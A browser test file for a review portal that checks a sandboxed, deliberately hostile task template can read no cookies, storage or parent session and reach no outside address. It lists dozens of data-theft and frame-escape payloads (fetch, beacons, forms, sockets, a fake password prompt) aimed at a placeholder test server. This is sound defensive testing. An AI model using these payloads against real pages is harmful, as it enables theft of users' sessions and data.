"""A template whose author is the attacker: some fifty ways out of its frame, none of which leads anywhere."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from starlette.types import ASGIApp, Receive, Scope, Send
from tests.browser.elsewhere import Elsewhere, elsewhere

from overread_review.app import create_app
from overread_review.portal import pages
from overread_testing.review_fakes import ADA, ReviewLab, review_lab
from overread_testing.review_server import served

SCRIPT = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
MARK = "hostile"
"""Stands in every address that the template asks for."""

READING = {
    "cookie": "document.cookie",
    "local storage": "browsers(localStorage).length",
    "session storage": "browsers(sessionStorage).length",
    "indexed database": "heard(indexedDB.open('x'), 'success')",
    "caches": "caches.keys()",
    "cookie store": "cookieStore.getAll()",
    "parent's document": "parent.document.body.innerHTML",
    "parent's address": "parent.location.href",
    "parent's session": "parent.fetch('/portal/api/session')",
    "top's document": "top.document.title",
    "sibling frames": "parent.frames[0].document.title + parent.frames[1].document.title",
    "opener": "opener.document.title",
    "service worker": "navigator.serviceWorker.register('sw.js')",
    "worker": "heard(new Worker('data:text/javascript,postMessage(1)'), 'message')",
    "shared worker": "heard(new SharedWorker(`data:text/javascript,${GREETING}`).port, 'message')",
    "clipboard": "navigator.clipboard.readText()",
    "position": "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "notification": "Notification.requestPermission().then((p) => { if (p !== 'granted') throw p; })",
    "full screen": "document.documentElement.requestFullscreen()",
    "dialog": "new Promise((yes, no) => (prompt('Your password?') === null ? no() : yes()))",
}
"""Expressions that must throw, reject, or never give anything."""

SENDING = {
    "fetch": "fetch('%TO%')",
    "fetch without cors": "fetch('%TO%', {mode: 'no-cors', method: 'POST', credentials: 'include'})",
    "fetch kept alive": "fetch('%TO%', {mode: 'no-cors', keepalive: true})",
    "XMLHttpRequest": "(() => { const r = new XMLHttpRequest(); r.open('GET', '%TO%', false); r.send(); })()",
    "beacon": "navigator.sendBeacon('%TO%', 'x')",
    "image": "load('img', {src: '%TO%'})",
    "source set": "load('img', {srcset: '%TO% 2x'})",
    "video": "load('video', {src: '%TO%'})",
    "poster": "load('video', {poster: '%TO%'})",
    "track": "load('track', {src: '%TO%'})",
    "script": "load('script', {src: '%TO%'})",
    "module": "import('%TO%')",
    "style sheet": "load('link', {rel: 'stylesheet', href: '%TO%'})",
    "prefetch": "load('link', {rel: 'prefetch', href: '%TO%'})",
    "preload": "load('link', {rel: 'preload', as: 'image', href: '%TO%'})",
    "module preload": "load('link', {rel: 'modulepreload', href: '%TO%'})",
    "icon": "load('link', {rel: 'icon', href: '%TO%'})",
    "manifest": "load('link', {rel: 'manifest', href: '%TO%'})",
    "style": "load('style', {}, \"@import '%TO%'; body { background: url(%TO%); }\")",
    "font": "new FontFace('x', 'url(%TO%)').load()",
    "frame": "load('iframe', {src: '%TO%'})",
    "frame of its own text": "load('iframe', {srcdoc: '<img src=%TO%><script>fetch(`%TO%`)<\\/script>'})",
    "object": "load('object', {data: '%TO%'})",
    "embed": "load('embed', {src: '%TO%'})",
    "form": "send({action: '%TO%', method: 'post'})",
    "form to the top": "send({action: '%TO%', target: '_top'})",
    "form to a new window": "send({action: '%TO%', target: '_blank'})",
    "ping": "click({href: '#', ping: '%TO%'})",
    "link to the top": "click({href: '%TO%', target: '_top'})",
    "link to a new window": "click({href: '%TO%', target: '_blank'})",
    "window": "window.open('%TO%')",
    "top": "(() => { top.location = '%TO%'; })()",
    "parent": "parent.location.replace('%TO%')",
    "event source": "heard(new EventSource('%TO%'), 'open')",
    "web socket": "heard(new WebSocket('%TO%'.replace('http', 'ws')), 'open')",
    "base": "load('base', {href: '%TO%/'})",
}
"""Expressions that would make somebody hear of the task."""

TEMPLATE = (
    SCRIPT
    + """<crowd-form><crowd-input name="x" label="X"></crowd-input></crowd-form>
<link rel="stylesheet" href="%OUT%/hostile-style.css"><img src="%OUT%/hostile-image">
<script src="%OUT%/hostile-script.js"></script><video poster="%OUT%/hostile-poster"></video>
<pre id="log"></pre>
<script>
const grown = (name, attributes, text) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  if (text) element.textContent = text;
  return document.body.appendChild(element);
};
const load = (name, attributes, text) => { grown(name, attributes, text); };
const send = (attributes) => grown("form", attributes).submit();
const click = (attributes) => grown("a", attributes, "x").click();
const GREETING = "onconnect = (event) => event.ports[0].postMessage(1)";
const browsers = (store) => {
  if (!(store instanceof Storage)) throw "a stand-in that ends with the page";
  return store;
};
const heard = (source, event) =>
  new Promise((yes, no) => { source["on" + event] = yes; source.onerror = no; });
const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 500))]);
(async () => {
  for (const [name, action] of Object.entries({READING})) {
    let result = "refused";
    try { result = "got " + String(await soon(action())); } catch {}
    log.textContent += name + "=" + result + "\\n";
  }
  for (const action of [{SENDING}]) {
    try { Promise.resolve(action()).catch(() => {}); } catch {}
  }
  log.textContent += "end";
})();
</script>"""
)


def template(*, out: str, own: str) -> str:
    """The template with every way out, to elsewhere and to the portal's own places."""
    reading = ", ".join(f"{json.dumps(name)}: () => {code}" for name, code in READING.items())
    places = (out, f"{own}/portal/api/tasks", f"{own}/portal/tasks/loop-2/frame", f"{own}/portal/api/session")
    sending = ", ".join(
        f"() => {code}".replace("%TO%", f"{place}?{MARK}={number}")
        for number, code in enumerate(SENDING.values())
        for place in places
    )
    filled = TEMPLATE.replace("{READING}", f"{{{reading}}}").replace("{SENDING}", sending)
    return filled.replace("%OUT%", out)


class Listening:
    """The portal, and every address that it was asked for, whether with a cookie, and the reply's status."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app
        self.heard: list[tuple[str, bool, int]] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def noted(message: Any) -> None:
            if message["type"] == "http.response.start":
                has_cookie = any(name == b"cookie" for name, _ in scope["headers"])
                address = f"{scope['path']}?{scope['query_string'].decode()}"
                self.heard.append((address, has_cookie, message["status"]))
            await send(message)

        await self._app(scope, receive, noted)


class Attack:
    """Ada before the hostile task, holding another one beside it."""

    def __init__(
        self, page: Page, *, url: str, lab: ReviewLab, portal: Listening, outside: Elsewhere
    ) -> None:
        self.page, self.url, self.lab, self.portal, self.outside = page, url, lab, portal, outside
        self.opened: list[Page] = []
        self.dialogs: list[str] = []

    def noticed(self, page: Page) -> None:
        """A window that should not be."""
        self.opened.append(page)

    def at_home(self) -> set[tuple[bool, int]]:
        """What of the template's wishes the portal heard: whether as somebody, and what it said."""
        return {(has_cookie, status) for address, has_cookie, status in self.portal.heard if MARK in address}


@pytest.fixture
def attack(browser: Any) -> Iterator[Callable[..., Attack]]:
    """Opens the hostile task: the template above, or one whose script is given."""
    closing: list[Any] = []

    def make(script: str = "") -> Attack:
        outside = elsewhere()
        there = outside.__enter__()
        holder: list[Listening] = []

        async def late(scope: Scope, receive: Receive, send: Send) -> None:
            await holder[0](scope, receive, send)

        serving = served(late)
        url = serving.__enter__()
        page = f"{SCRIPT}<crowd-form></crowd-form><script>{script}</script>"
        page = page.replace("%OUT%", there.url).replace("%OWN%", url)
        lab = review_lab(template=page if script else template(out=there.url, own=url))
        holder.append(Listening(create_app(lab.service)))
        lab.flow_definition()
        for name in ("loop-1", "loop-2"):
            lab.start(name, secret="s3cr3t")
            lab.service.tasks.claim(name, reviewer=ADA)
        context = browser.new_context()
        context.set_default_timeout(15_000)
        closing.extend(
            [lambda: serving.__exit__(None, None, None), lambda: outside.__exit__(None, None, None)]
        )
        closing.append(context.close)
        context.request.post(f"{url}/portal/api/session", data={"reviewer": "ada"})
        made = Attack(context.new_page(), url=url, lab=lab, portal=holder[0], outside=there)
        context.on("page", made.noticed)
        made.page.on("dialog", lambda dialog: (made.dialogs.append(dialog.message), dialog.dismiss()))
        made.page.goto(f"{url}/portal/#/tasks/loop-1")
        return made

    yield make
    for close in reversed(closing):
        close()


def test_a_hostile_template_reads_nothing_reaches_nobody_and_is_named(attack: Callable[..., Attack]) -> None:
    seen = attack()
    log = seen.page.frame_locator("iframe").locator("#log")
    expect(log).to_contain_text("end", timeout=20_000)
    seen.page.wait_for_timeout(500)
    results = dict(line.split("=", 1) for line in log.inner_text().splitlines() if "=" in line)
    assert results == dict.fromkeys(READING, "refused")
    assert seen.outside.heard == []
    # Scripts may come from the portal itself, where the frame is nobody: nothing is known and nothing given.
    assert seen.at_home() <= {(False, 401)}
    assert (seen.opened, seen.dialogs) == ([], [])
    assert seen.page.url == f"{seen.url}/portal/#/tasks/loop-1"
    notice = seen.page.locator("details.notice")
    for name in ("style.css", "image", "script.js", "poster"):
        expect(notice).to_contain_text(f"{seen.outside.url}/hostile-{name}")
    assert seen.lab.loop("loop-2").answers == ()
    assert seen.lab.loop("loop-1").answers == ()


def test_the_check_notices_a_frame_without_its_policy(
    attack: Callable[..., Attack], monkeypatch: pytest.MonkeyPatch
) -> None:
    lax = "sandbox allow-scripts allow-forms allow-popups allow-modals"
    monkeypatch.setattr(pages, "frame_policy", lambda *_: lax)
    seen = attack()
    seen.page.wait_for_timeout(2_500)
    reached = {address.partition("=")[2] for address in seen.outside.heard if f"{MARK}=" in address}
    assert len(reached) >= 10, reached


@pytest.mark.parametrize(
    "going",
    [
        "location = '%TO%'",
        "document.body.appendChild(Object.assign(document.createElement('a'), "
        "{href: '%TO%', download: 'x'})).click()",
        "document.write('<meta http-equiv=refresh content=\"0;url=%TO%\">')",
    ],
)
def test_a_frame_that_goes_to_the_portal_itself_comes_as_nobody(
    attack: Callable[..., Attack], going: str
) -> None:
    """No policy keeps a frame from leaving for its own server; there it must be a stranger."""
    seen = attack(
        f"setTimeout(() => {{ {going.replace('%TO%', f'%OWN%/portal/tasks/loop-2/frame?{MARK}')} }}, 200)"
    )
    seen.page.locator("iframe").wait_for()
    seen.page.wait_for_timeout(900)
    assert seen.at_home() <= {(False, 401)}
    assert seen.outside.heard == []
    assert not any("s3cr3t" in frame.content() for frame in seen.page.frames[1:])
